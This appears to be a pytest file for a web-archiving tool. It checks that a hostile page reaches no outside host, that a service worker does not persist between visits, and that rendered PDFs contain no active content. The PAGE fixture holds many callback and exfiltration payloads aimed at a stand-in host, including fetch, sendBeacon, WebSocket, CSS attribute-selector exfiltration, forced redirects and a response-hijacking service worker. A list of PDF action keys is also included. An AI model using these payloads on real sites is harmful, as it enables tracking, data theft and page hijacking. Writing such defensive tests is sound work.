"""B5 67 to 70: a page that tries everything reaches nobody, and its words stay words."""

import io
from dataclasses import replace
from pathlib import Path

import pikepdf
import pytest

from benban.capture.failure import failure_of
from benban.dossier.report import render_pdf
from benban.errors import BenbanError
from benban.wording import Language
from tests.browser.conftest import QUICK, Preserved, preserve
from tests.browser.raw_site import raw_site, whole
from tests.browser.test_pages_that_attack import recorder_for
from tests.hostile.conftest import Listener
from tests.unit.dossier.example import full_view
from tests.unit.dossier.reading import squeezed, text

MARKUP = "<script>alert(1)</script><b>đậm</b> #strong[x] [a](http://xau.example) =1+1"
# Everything that B2 measured: 13 to 14 requests leave an unguarded frame.
PAGE = """<!DOCTYPE html><html onload="fetch('{evil}onload')"><head><meta charset="utf-8">
<base href="{evil}"><title>{title}</title>
<link rel="prefetch" href="{evil}prefetch"><link rel="dns-prefetch" href="{evil}">
<link rel="preconnect" href="{evil}"><link rel="stylesheet" href="{evil}css">
<style>@import url({evil}import); @font-face {{ font-family: f; src: url({evil}font) }}
body {{ font-family: f; background: url({evil}background) }}
input[value^="a"] {{ background: url({evil}exfil) }}</style></head>
<body onload="fetch('{evil}body')"><p>{title}</p><input value="abc">
<svg><image href="{evil}svg"/></svg><iframe src="{evil}frame"></iframe>
<iframe src="data:text/html,<script>fetch('{evil}data')</script>"></iframe>
<object data="{evil}object"></object><embed src="{evil}embed"><img src=x onerror="fetch('{evil}e')">
<form id="f" action="{evil}form" target="_blank"><input name="a"></form>
<a id="j" href="javascript:fetch('{evil}javascript')">j</a>
<a id="n" href="{evil}opener" target="_blank">n</a>
<script>
window.open('{evil}open'); f.submit(); j.click(); n.click(); alert(1); confirm(2); prompt(3);
fetch('{evil}fetch', {{mode: 'no-cors'}}).catch(() => 0); navigator.sendBeacon('{evil}beacon', 'x');
try {{ new WebSocket('{evil}ws'.replace('http', 'ws')) }} catch (e) {{}}
try {{ navigator.serviceWorker.register('/worker.js').catch(() => 0) }} catch (e) {{}}
try {{ new EventSource('{evil}sse') }} catch (e) {{}}
try {{ new Worker(URL.createObjectURL(new Blob(["fetch('{evil}worker')"]))) }} catch (e) {{}}
setTimeout(() => {{ top.location = '{evil}top' }}, 300);
</script><meta http-equiv="refresh" content="1;url={evil}refresh"></body></html>"""
WORKER = b"self.addEventListener('fetch', e => e.respondWith(new Response('<p>hijacked</p>')))"


@pytest.fixture
def profile_folder(tmp_path: Path) -> Path:
    folder = tmp_path / "profiles"
    folder.mkdir()
    return folder


def test_b5_67_a_page_that_tries_everything_reaches_nobody_on_this_computer(
    listener: Listener, profile_folder: Path
) -> None:
    page = page_of(listener).replace("top.location", "top.elsewhere").replace("http-equiv", "x")

    with raw_site({"/": whole(page.encode()), "/worker.js": whole(WORKER)}) as site:
        capture, kept = preserve(recorder_for(site, profile_folder), site.address("/"))

    assert listener.callers == 0
    assert capture.title == MARKUP
    assert MARKUP in page_text(kept)
    # Nothing of it is left beside the vault.
    assert [one for one in profile_folder.rglob("*") if one.is_file()] == []


def test_b5_68_a_page_that_sends_the_browser_elsewhere_reaches_nobody_and_the_record_says_so(
    listener: Listener, profile_folder: Path
) -> None:
    page = page_of(listener)
    # Longer than it takes to go: it is not called quiet before.
    limits = replace(QUICK, quiet_s=2.0)

    with raw_site({"/": whole(page.encode()), "/worker.js": whole(WORKER)}) as site:
        first = site.address("/")
        capture, kept = preserve(recorder_for(site, profile_folder), first, limits=limits)

    # The browser stands where it was sent, and nobody answered there: not "the page is gone".
    assert listener.callers == 0
    assert (first in capture.redirects, capture.final_address == first) == (True, False)
    assert isinstance(failure_of(capture), BenbanError)
    # What the browser shows of its own in such a place is not kept as a page.
    assert (kept.of("dom-text"), kept.of("screenshot"), len(kept.of("wacz"))) == ([], [], 1)


def test_b5_69_a_service_worker_of_one_visit_answers_nothing_in_the_next(
    profile_folder: Path,
) -> None:
    page = """<!DOCTYPE html><title>t</title><p>của trang</p><script>
      navigator.serviceWorker.register('/worker.js').then(r => { document.title = 'registered' })
      </script>"""
    script = whole(WORKER, media_type="text/javascript")

    with raw_site({"/": whole(page.encode()), "/worker.js": script}) as site:
        recorder = recorder_for(site, profile_folder)
        visits = [preserve(recorder, site.address("/"))[1] for _ in range(2)]

    assert ["hijacked" in page_text(kept) for kept in visits] == [False, False]
    assert ["của trang" in page_text(kept) for kept in visits] == [True, True]


def page_of(listener: Listener, title: str = MARKUP) -> str:
    evil = f"http://127.0.0.1:{listener.port}/"
    return PAGE.format(evil=evil, title=title.replace("&", "&amp;").replace("<", "&lt;"))


def page_text(kept: Preserved) -> str:
    (said,) = kept.of("dom-text")
    return said.decode()


def test_b5_70_a_page_that_says_it_is_plain_text_is_not_run_as_a_page(
    listener: Listener, profile_folder: Path
) -> None:
    page = page_of(listener).encode()

    with raw_site({"/": whole(page, media_type="text/plain; charset=utf-8")}) as site:
        capture, kept = preserve(recorder_for(site, profile_folder), site.address("/"))

    assert (listener.callers, capture.title) == (0, "")
    assert "<script>" in page_text(kept)


@pytest.mark.parametrize("language", Language)
def test_b5_68_a_report_about_such_a_page_holds_its_words_and_nothing_to_click_or_run(
    language: Language,
) -> None:
    view = full_view()
    capture = replace(
        view.captures[0], title=MARKUP, final_address="javascript:alert(document.cookie)"
    )
    pdf = render_pdf(replace(view, captures=(capture,)), language)

    assert squeezed(MARKUP) in text(pdf)
    with pikepdf.open(io.BytesIO(pdf)) as opened:
        keys = {
            str(key)
            for thing in opened.objects
            if isinstance(thing, (pikepdf.Dictionary, pikepdf.Stream))
            for key in thing.keys()  # noqa: SIM118 - a PDF's dictionary is none of Python's
        }
    active = {"/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/URI", "/EmbeddedFile"}
    assert keys & active == set()
